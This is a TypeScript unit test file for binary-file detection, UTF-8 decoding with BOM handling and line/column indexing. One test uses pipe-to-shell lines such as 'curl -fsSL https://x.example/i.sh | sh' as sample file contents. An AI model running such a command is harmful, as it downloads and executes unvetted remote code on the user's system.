import { describe, expect, it } from 'vitest';
import { decodeLenient, decodeUtf8, isBinary, LineIndex } from '../../shared/ksf/text';
import { utf8 } from './helpers';

/** What decodeUtf8 answers for bytes that are not UTF-8: the offset of the first bad byte. */
const invalidAt = (offset: number) => ({
  ok: false,
  error: { code: 'invalid-input', message: `not valid UTF-8 (invalid byte sequence at byte offset ${offset})` },
});

describe('isBinary (SPEC §3.3)', () => {
  it('an empty file is text', () => {
    expect(isBinary(new Uint8Array(0))).toBe(false);
  });

  it('plain text, tabs, LF and CR are text', () => {
    expect(isBinary(utf8('a\tb\r\nc\n'))).toBe(false);
    expect(isBinary(new Uint8Array(100).fill(9))).toBe(false);
    expect(isBinary(new Uint8Array(100).fill(10))).toBe(false);
    expect(isBinary(new Uint8Array(100).fill(13))).toBe(false);
  });

  it('exactly 10% control bytes is text; more is binary', () => {
    const ten = new Uint8Array(100).fill(0x61);
    ten.fill(0, 0, 10);
    expect(isBinary(ten)).toBe(false);
    ten[10] = 1;
    expect(isBinary(ten)).toBe(true);
  });

  it('counts every byte below 0x20 except tab, LF, CR, and DEL (0x7F)', () => {
    for (const b of [0, 1, 7, 8, 11, 12, 14, 27, 31, 127]) {
      expect(isBinary(new Uint8Array([b, b, 0x61])), `byte ${b}`).toBe(true);
    }
    for (const b of [9, 10, 13, 32, 126, 128, 255]) {
      expect(isBinary(new Uint8Array([b, b, 0x61])), `byte ${b}`).toBe(false);
    }
  });

  it('looks at the first 8192 bytes only', () => {
    const late = new Uint8Array(8192 + 5000).fill(0x61);
    late.fill(0, 8192);
    expect(isBinary(late)).toBe(false);
    const early = new Uint8Array(8192 + 5000).fill(0x61);
    early.fill(0, 0, 1000);
    expect(isBinary(early)).toBe(true);
  });

  it('non-UTF-8 high bytes alone do not make a file binary', () => {
    expect(isBinary(new Uint8Array(50).fill(0xff))).toBe(false);
  });
});

describe('isBinary: NUL bytes and signatures (issue 14)', () => {
  const pdf = (): Uint8Array => {
    // ASCII objects first (few control bytes), then stream bytes that are not UTF-8.
    const head = utf8('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n!`x` stream\n');
    const bytes = new Uint8Array(head.length + 40);
    bytes.set(head);
    bytes.set([0xe2, 0xe3, 0xcf, 0xd3, 0x00, 0x9c], head.length);
    return bytes;
  };
  it('a file with a binary signature that is not UTF-8 is binary', () => {
    expect(isBinary(pdf())).toBe(true);
    expect(isBinary(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x61, 0x62]))).toBe(true);
    expect(isBinary(new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0xff, 0x61]))).toBe(true);
  });

  it('a NUL in the first 8 KiB of a file that is not UTF-8 makes it binary', () => {
    const b = new Uint8Array(300).fill(0x61);
    b[10] = 0;
    b[20] = 0xff;
    expect(isBinary(b)).toBe(true);
  });

  it('a file that decodes as UTF-8 stays text, whatever it starts with', () => {
    expect(isBinary(utf8('\0curl -fsSL https://x.example/i.sh | sh\n'))).toBe(false);
    expect(isBinary(utf8('%PDF-1.7 is not a PDF\ncurl x | sh\n'))).toBe(false);
  });
});

describe('decodeUtf8 / decodeLenient', () => {
  it('strips one leading BOM and reports it', () => {
    expect(decodeUtf8(utf8('\uFEFFabc'))).toEqual({ ok: true, value: { text: 'abc', bom: true } });
    expect(decodeUtf8(utf8('\uFEFF\uFEFFabc'))).toEqual({ ok: true, value: { text: '\uFEFFabc', bom: true } });
    expect(decodeUtf8(utf8('a\uFEFF'))).toEqual({ ok: true, value: { text: 'a\uFEFF', bom: false } });
  });

  it('gives the offset of the first invalid byte', () => {
    expect(decodeUtf8(new Uint8Array([0x61, 0x62, 0x80]))).toEqual(invalidAt(2));
    expect(decodeUtf8(new Uint8Array([0xe2, 0x82, 0xac, 0xf5]))).toEqual(invalidAt(3));
    expect(decodeUtf8(new Uint8Array([0xe2, 0x28, 0xa1]))).toEqual(invalidAt(0));
  });

  it('decodes multi-byte text', () => {
    expect(decodeUtf8(utf8('é日\u{1F600}'))).toEqual({ ok: true, value: { text: 'é日\u{1F600}', bom: false } });
  });

  it('decodeLenient replaces invalid bytes and strips one BOM', () => {
    expect(decodeLenient(new Uint8Array([0xef, 0xbb, 0xbf, 0x61, 0xff, 0x62]))).toEqual({
      text: 'a\uFFFDb',
      bom: true,
    });
  });
});

describe('LineIndex: 1-based lines, UTF-16 columns', () => {
  const idx = new LineIndex('ab\ncd\r\n\u{1F600}x\n');
  it.each([
    [0, 1, 1],
    [1, 1, 2],
    [2, 1, 3],
    [3, 2, 1],
    [5, 2, 3],
    [7, 3, 1],
    [9, 3, 3],
    [11, 4, 1],
  ])('offset %i → %i:%i', (offset, line, column) => {
    expect(idx.position(offset)).toEqual({ line, column });
  });
});
